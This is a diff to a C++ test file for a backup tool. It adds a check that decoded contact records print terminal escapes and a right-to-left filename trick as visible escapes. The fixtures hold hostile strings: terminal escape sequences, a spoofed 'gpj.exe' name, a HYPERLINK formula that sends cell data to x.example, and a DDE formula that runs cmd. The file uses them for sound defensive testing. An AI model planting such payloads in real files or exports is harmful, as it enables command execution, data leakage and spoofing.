@@ -1,7 +1,8 @@
 // End to end: the texts of a hostile backup on their way out. A device name
-// made of terminal escapes is printed by list and info as visible escapes; a
-// message text and a contact name shaped as spreadsheet formulas are exported
-// into every CSV (readable documents and row dumps) as text.
+// and a contact name made of terminal escapes are printed by list, info and
+// sqlite decode as visible escapes; a message text and a contact name shaped
+// as spreadsheet formulas are exported into every CSV (readable documents and
+// row dumps) as text.
 
 #include "support/BackupBuilder.h"
 #include "support/CliRun.h"
@@ -26,6 +27,9 @@ constexpr const char* kDeviceName = "\x1b]0;owned\x07" "Ann\x1b[2J\rfake\n2024-0
 constexpr const char* kShownDeviceName = "\\x1b]0;owned\\x07Ann\\x1b[2J\\rfake\\n2024-01-01 00:00:00  Fake";
 constexpr const char* kMessageText = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
 constexpr const char* kContactName = "-2+3+cmd|' /C calc'!A0";
+/// Sets the title, then turns the rest of the line around.
+constexpr const char* kEscapeName = "\x1b]0;t\x07" "Eve\xE2\x80\xAE" "gpj.exe";
+constexpr const char* kShownEscapeName = "\\x1b]0;t\\x07Eve\\u202egpj.exe";
 
 /// The only file named `name` below `folder`.
 fs::path fileBelow(const fs::path& folder, const std::string& name) {
@@ -50,6 +54,10 @@ protected:
             person.first = kContactName;
             person.phones = {"+1 (202) 555-0199"};
             book.addPerson(person);
+            test::Person escapes;
+            escapes.first = kEscapeName;
+            escapes.phones = {"+1 (202) 555-0100"};
+            book.addPerson(escapes);
             book.close();
         }
         test::BackupBuilder builder;
@@ -77,6 +85,15 @@ TEST_F(HostileText, ListAndInfoPrintControlCharactersEscaped) {
     }
     // Header, rule and the backup's one row: the name's line break made no row of its own.
     EXPECT_EQ(std::count(list.out.begin(), list.out.end(), '\n'), 3) << list.out;
+}
+
+TEST_F(HostileText, DecodedRecordsPrintControlCharactersEscaped) {
+    const CliRun run = orvelle(temp, {"sqlite", "decode", "contacts", test::arg(temp / "AddressBook.sqlitedb")});
+    ASSERT_EQ(run.exitCode, 0) << run.err;
+    for (const char control : {'\x1b', '\x07'})
+        EXPECT_EQ(run.out.find(control), std::string::npos) << run.out;
+    EXPECT_EQ(run.out.find("\xE2\x80\xAE"), std::string::npos) << run.out;
+    EXPECT_NE(run.out.find(kShownEscapeName), std::string::npos) << run.out;
 }
 
 TEST_F(HostileText, ExportedCsvCellsNeverStartAFormula) {
